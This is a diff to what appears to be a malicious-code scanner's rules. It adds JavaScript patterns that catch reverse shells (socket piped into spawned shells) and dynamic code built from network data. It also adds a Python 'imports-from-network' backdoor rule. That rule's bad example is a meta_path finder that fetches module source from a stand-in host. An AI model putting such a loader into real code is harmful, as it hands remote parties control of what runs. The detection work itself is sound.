@@ -63,6 +63,8 @@ RULES = (
             "javascript": (
                 ".pipe(recv: ~socket; 0: ~process)",
                 ".pipe(recv: ~process; 0: ~socket)",
+                ".pipe(0: <child_process.spawn().stdin>) @with-connecting @with-shell",
+                ".pipe(0: <child_process.exec().stdin>) @with-connecting @with-shell",
                 f"child_process.*(0: {_REVERSE})",
                 r"child_process.spawn(0: /(?:^|\W)(?:sh|bash|cmd|cmd\.exe|powershell"
                 r"|powershell\.exe)$/; 2.stdio: ~socket)",
@@ -156,6 +158,7 @@ RULES = (
                 "._compile(0: ~network)",
                 "setTimeout(0: ~network & string)",
                 ".constructor.constructor(*: ~network)",
+                "Function.constructor(*: dynamic) @with-sending",
                 r"import(0: /^https?:/)",
                 r"require(0: ~network)",
             ),
@@ -185,6 +188,33 @@ RULES = (
                 "show(data));\n",
             ),
         },
+    ),
+    Rule(
+        "imports-from-network",
+        "backdoor",
+        MALICE,
+        HIGH,
+        LIKELY,
+        494,
+        "Imports are answered by code that sends and receives",
+        "Whoever answers decides what an import runs.",
+        "Install what is imported.",
+        {
+            "python": (
+                "sys.meta_path.append() @with-sending",
+                "sys.meta_path.insert() @with-sending",
+                "sys.path_hooks.append() @with-sending",
+                "sys.path_hooks.insert() @with-sending",
+            ),
+        },
+        bad={
+            "python": (
+                "import sys, urllib.request\nclass Finder:\n    def get_source(self, name):\n"
+                "        return urllib.request.urlopen('http://a.invalid/' + name).read()\n"
+                "sys.meta_path.append(Finder())\n",
+            ),
+        },
+        good={"python": ("import sys\nsys.meta_path.append(Finder())\n",)},
     ),
     Rule(
         "remote-command",
